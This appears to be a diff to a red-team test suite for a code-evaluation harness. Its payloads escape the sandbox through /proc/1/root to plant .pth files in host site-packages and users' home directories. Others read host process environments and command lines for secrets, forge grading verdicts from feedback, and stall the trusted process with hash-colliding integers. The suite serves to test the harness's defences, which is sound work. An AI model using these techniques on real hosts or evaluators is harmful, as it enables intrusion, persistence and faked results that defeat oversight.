@@ -125,14 +125,37 @@ except Exception as exc:
         quick=True,
         code=r'''
 """Write a (harmless) .pth file into the host's site-packages through /proc/1/root: every
-later interpreter of that venv would run its import lines. The harness finds the file."""
+later interpreter of that venv would run its import lines; else into a host user's home. The
+harness finds the file."""
+import os
 import site
 import sys
 import sysconfig
 
 ROOT = "/proc/1/root"
+
+
+def host_homes():
+    """HOME of the host processes this uid may read (a venv owned by root is not writable,
+    but a user's home and the venvs in it are)."""
+    homes = []
+    try:
+        pids = [p for p in os.listdir(ROOT + "/proc") if p.isdigit()]
+    except OSError:
+        return homes
+    for pid in pids:
+        try:
+            with open(f"{ROOT}/proc/{pid}/environ", "rb") as fh:
+                env = fh.read().split(b"\0")
+        except OSError:
+            continue
+        homes += [e[5:].decode(errors="replace") for e in env if e.startswith(b"HOME=")]
+    return homes
+
+
 folders = [sysconfig.get_paths()["purelib"], *site.getsitepackages()]
 folders += [p for p in sys.path if p.endswith("site-packages")]
+folders += host_homes()
 for folder in dict.fromkeys(folders):
     try:
         with open(ROOT + folder + "/costeer-@@MARK@@.pth", "w") as fh:
@@ -167,8 +190,10 @@ try:
                     argv = fh.read().replace(b"\0", b" ").decode(errors="replace")
             except OSError:
                 continue
-            if "redteam" in argv or pid == "@@DECOY_PID@@":
-                found.append(f"{pid}: {argv}")
+            if "secret" in argv or pid == "@@DECOY_PID@@":  # the interesting ones first
+                found.insert(0, f"{pid}: {argv[:200]}")
+            elif len(found) < 5:
+                found.append(f"{pid}: {argv[:100]}")
 except OSError as exc:
     print("no host /proc through", ROOT, exc)
 if found:
@@ -208,7 +233,7 @@ factor.to_frame("@@TASK_NAME@@").to_parquet("result.parquet")
         route="forged_verdict",
         suite="alpha158",
         task_id=A158,
-        description="rebuilds the truth's last-date cross-section from the mean IC of the feedback",
+        description="rebuilds the truth's last-date cross-section from the feedback's mean IC",
         attempts=10,
         slow=True,
         code=r'''
@@ -277,13 +302,13 @@ print("bytes on disk:", __import__("os").path.getsize("result.parquet"))
         slow=True,
         code=r'''
 """Write the answers file ourselves (and leave before the runner writes): call 0 returned a set
-of 32,000 multiples of 2**61 - 1, which all hash to 0, so building the set in the trusted
+of 24,000 multiples of 2**61 - 1, which all hash to 0, so building the set in the trusted
 process costs ~n**2/2 comparisons each time it is decoded."""
 import json
 import os
 
 P = (1 << 61) - 1
-items = [{"int": format(k * P, "x")} for k in range(1, 32_000)]
+items = [{"int": format(k * P, "x")} for k in range(1, 24_000)]
 with open("_costeer_answers.jsonl", "w") as fh:
     fh.write(json.dumps({"status": "loaded"}) + "\n")
     fh.write(json.dumps({"i": 0, "value": {"set": items}}) + "\n")
@@ -373,7 +398,7 @@ print("locked directory made")
 )
 
 # -- finding 5: run-wide limits ------------------------------------------------------------------
-_HONEST_MA10 = r'''
+_HONEST_MA10 = r"""
 import numpy as np
 import pandas as pd
 
@@ -388,7 +413,7 @@ by_instrument = panel.sort_index(level=["instrument", "datetime"])
 pieces = [compute(rows) for _, rows in by_instrument.groupby(level="instrument", sort=False)]
 factor = pd.concat(pieces).reindex(panel.index).where(panel["close"].notna())
 factor.to_frame("@@TASK_NAME@@").to_parquet("result.parquet")
-'''
+"""
 
 _RUN_WIDE = (
     Attack(
@@ -485,7 +510,7 @@ for name in os.listdir("."):
         ground_truth=(
             (
                 "main.py",
-                '"""The MA10 reference, failing during its first 12 s as on a full shared disk."""\n'
+                '"""The MA10 reference, failing for 12 s as on a full shared disk."""\n'
                 "import sys\nimport time\n\n"
                 "if time.time() < @@NOW@@ + 12:\n"
                 '    sys.exit("OSError: [Errno 28] No space left on device")\n' + _HONEST_MA10,
@@ -498,7 +523,8 @@ again, then hands in the correct factor. It must be judged a success."""
 import time
 
 time.sleep(max(0.0, @@NOW@@ + 12.5 - time.time()))
-''' + _HONEST_MA10,
+'''
+        + _HONEST_MA10,
     ),
     Attack(
         name="memory_error_misreport",
